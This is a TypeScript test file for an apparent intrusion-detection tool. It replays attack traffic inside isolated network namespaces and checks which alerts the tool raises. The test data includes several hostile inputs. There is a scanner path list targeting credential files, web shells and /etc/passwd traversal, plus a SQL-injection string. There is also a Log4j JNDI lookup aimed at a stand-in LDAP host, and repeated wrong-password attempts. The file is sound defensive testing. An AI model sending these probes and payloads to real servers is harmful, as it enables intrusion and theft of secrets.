import { afterAll, beforeAll, expect, test } from "bun:test";
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { mirrorSite, type Place, runClient, useDav } from "./clients.ts";
import { joinNetns, makeNetns, type Netns } from "./netns.ts";
import { type Program, startProgram } from "./program.ts";
import { describeWith } from "./requires.ts";
import { startDav } from "./servers/dav.ts";
import type { Server } from "./servers/process.ts";
import { startSite } from "./servers/site.ts";
import { told } from "./told.ts";
import { until } from "./until.ts";

// Real clients against real servers, watched by the real program: who attacks is told, who does not is not. Some ten
// seconds, most of them those of the clients.

const SERVER = "198.51.100.10";
const CLIENTS = {
  /** The client's first address: that of programs which cannot be told another. */
  dav: "198.51.100.20",
  scanner: "198.51.100.21",
  mirror: "198.51.100.22",
  guesser: "198.51.100.23",
  log4j: "198.51.100.24",
  visitor: "198.51.100.25",
} as const;
const BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
const TIMEOUT = 60_000;

/** What scanners ask for first, by their own lists. */
const SCAN = [
  ".env .git/config .git/HEAD .aws/credentials .svn/entries .htpasswd wp-config.php.bak backup.sql dump.sql.gz",
  "phpinfo.php server-status actuator/env actuator/heapdump vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "phpmyadmin/ pma/ adminer.php manager/html admin/ administrator/ wp-login.php wp-admin/ xmlrpc.php",
  "cgi-bin/test.cgi HNAP1/ boaform/admin/formLogin solr/admin/ _ignition/health-check owa/ telescope/requests",
  "shell.php c99.php wso.php old/ test/ dev/ staging/ api/v1/ config.json.bak web.config .DS_Store id_rsa",
  "static/..%2f..%2f..%2f..%2fetc/passwd index.php?id=1%27%20UNION%20SELECT%201,2,3--%20-",
]
  .join(" ")
  .split(" ");

const PROGRAMS = ["ip", "nginx", "apache2", "curl", "wget", "cadaver"].map((program) => ({ program }));

describeWith(["root", ...PROGRAMS], "real clients and real servers", () => {
  let folder: string;
  let here: Netns;
  let there: Netns;
  const servers: Server[] = [];
  let program: Program;

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "nethergaze-detection-"));
    here = makeNetns();
    there = makeNetns();
    joinNetns(here, there);
    here.ip(`addr add ${SERVER}/24 dev eth0`);
    for (const address of Object.values(CLIENTS)) there.ip(`addr add ${address}/24 dev eth0`);
    servers.push(await startSite(folder, 80, here.name), await startDav(folder, 8080, here.name));
    const logs = servers.flatMap(({ log }) => ["--access-log", log]);
    program = startProgram(
      ["stream", "alerts", ...logs, "--no-auth-log", "--show-private-ips", "--from-start"],
      here.name,
    );
    await curls(CLIENTS.visitor, [], [""]);
  }, TIMEOUT);

  afterAll(async () => {
    await program?.stop();
    for (const server of servers) await server.stop();
    await here?.remove();
    await there?.remove();
    rmSync(folder, { recursive: true, force: true });
  });

  const place = (): Place => ({ netns: there.name, folder });

  function curls(from: string, args: readonly string[], paths: readonly string[]): Promise<void> {
    const urls = paths.flatMap((path) => ["-o", "/dev/null", `http://${SERVER}/${path}`]);
    return runClient(place(), ["curl", "-s", "--path-as-is", "--interface", from, ...args, ...urls]);
  }

  test(
    "a scanner's list is critical, for what it asks for and for how much of it is not there",
    async () => {
      await curls(CLIENTS.scanner, ["-A", BROWSER], SCAN);
      await until(() => told(program.lines, CLIENTS.scanner).severity === "critical", "the scanner");
      expect(told(program.lines, CLIENTS.scanner).rules).toEqual(
        expect.arrayContaining(["sensitive-path", "exploit-probe", "exploit", "distinct-4xx"]),
      );
    },
    TIMEOUT,
  );

  test(
    "one Log4j lookup in an agent is enough",
    async () => {
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack.
      await curls(CLIENTS.log4j, ["-A", "${jndi:ldap://198.51.100.24/a}"], [""]);
      await until(() => told(program.lines, CLIENTS.log4j).severity === "warning", "the lookup");
      expect(told(program.lines, CLIENTS.log4j).rules).toEqual(["exploit"]);
    },
    TIMEOUT,
  );

  test(
    "wrong passwords are told, however many there are in one connection",
    async () => {
      await curls(CLIENTS.guesser, ["-A", BROWSER, "-u", "ann:wrong"], Array(30).fill("private/"));
      await until(() => told(program.lines, CLIENTS.guesser).severity === "warning", "the guesser");
      expect(told(program.lines, CLIENTS.guesser).rules).toContain("http-brute-force");
    },
    TIMEOUT,
  );

  test(
    "a mirror of the whole site, a WebDAV client and a visitor are information at most",
    async () => {
      await mirrorSite(place(), CLIENTS.mirror, SERVER);
      await useDav(place(), SERVER);
      await curls(
        CLIENTS.visitor,
        ["-A", BROWSER],
        ["", "page1.html", "img/1.png", "favicon.ico", "private/"],
      );
      // They did what they should have done.
      const count = (name: string, text: string) =>
        spawnSync("grep", ["-c", text, join(folder, name)], { encoding: "utf8" }).stdout.trim();
      expect(Number(count("site.log", `^${CLIENTS.mirror} `))).toBeGreaterThan(300);
      expect(Number(count("dav.log", `^${CLIENTS.dav} .*PUT .* 201 `))).toBe(40);
      // What comes after is told after: so all before it was seen.
      await curls(CLIENTS.visitor, ["-A", "sqlmap/1.8"], [""]);
      await until(() => told(program.lines, CLIENTS.visitor).severity === "warning", "the last request");
      expect(told(program.lines, CLIENTS.visitor).rules).toContain("scanner-agent");
      for (const ip of [CLIENTS.mirror, CLIENTS.dav])
        expect(["none", "info"]).toContain(told(program.lines, ip).severity);
    },
    TIMEOUT,
  );
});
